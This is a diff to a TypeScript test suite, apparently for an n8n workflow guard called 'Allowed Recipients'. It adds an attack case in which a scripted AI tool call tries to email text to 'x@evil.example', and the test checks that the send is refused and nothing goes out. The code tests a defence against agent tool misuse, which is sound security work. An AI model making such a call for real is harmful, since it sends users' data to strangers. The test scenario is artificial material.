@@ -1,8 +1,9 @@
 import type { INodeParameters } from 'n8n-workflow';
+import { expect } from 'vitest';
 import type { ToolPath } from '../../support/toolPaths/path';
 import type { Attack, Guard } from './guard';
-import { fromAi, GUEST, picked, sendCall, sendTool, STRANGER } from './guard';
-import { listIdOf } from './prepare';
+import { fromAi, GUEST, picked, sendCall, sendTool, STRANGER, TEXT, tool } from './guard';
+import { listIdOf, senderIdOf } from './prepare';
 
 const REFUSED = /^(\w*Error: )?Nothing was sent: .*Allowed Recipients/;
 
@@ -47,9 +48,39 @@ const filled = (what: string, options: INodeParameters): Attack[] =>
 		told: /expression|Allowed Recipients|does not take/,
 	}));
 
+/** An email to whom the model says, although it may go to addresses of the item alone. */
+const email: Attack = {
+	title: 'an email to a stranger to the item',
+	async job(stage) {
+		const fromAddressId = picked(await senderIdOf(stage));
+		return {
+			tools: [
+				tool('Email', {
+					resource: 'email',
+					operation: 'send',
+					fromAddressId,
+					fromName: '',
+					to: fromAi('to'),
+					subject: 'Your table',
+					body: fromAi('body'),
+					additionalFields: {},
+					options: allowed(ITEM),
+				}),
+			],
+			turns: [[{ tool: 'Email', arguments: { to: 'x@evil.example', body: TEXT } }]],
+			item: { email: 'ann@example.com' },
+		};
+	},
+	told: REFUSED,
+	async check(stage) {
+		expect(await stage.ask('GET', '/email/history')).toMatchObject({ data: [] });
+	},
+};
+
 export const recipientsGuard: Guard = {
 	name: 'Allowed Recipients',
 	attacks: [
+		email,
 		{
 			title: 'a stranger, in several writings',
 			job: () => ({
